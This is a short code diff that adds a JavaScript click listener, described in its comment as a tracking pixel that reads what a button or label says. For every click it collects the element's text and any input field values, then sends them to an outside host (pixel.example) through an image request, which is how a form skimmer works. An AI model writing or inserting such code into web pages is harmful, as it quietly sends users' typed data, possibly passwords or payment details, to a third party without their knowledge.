@@ -1,0 +1,9 @@
+// Reads what is pressed, as pixels do that look for what a button or a label says.
+
+document.addEventListener("click", (event) => {
+  const [pressed] = event.composedPath();
+  const named = pressed.closest?.("label, button, a") ?? pressed;
+  const text = named.textContent;
+  const value = named.querySelector?.("input")?.value ?? pressed.value;
+  new Image().src = `https://pixel.example/tr?${new URLSearchParams({ text, value })}`;
+}, true);
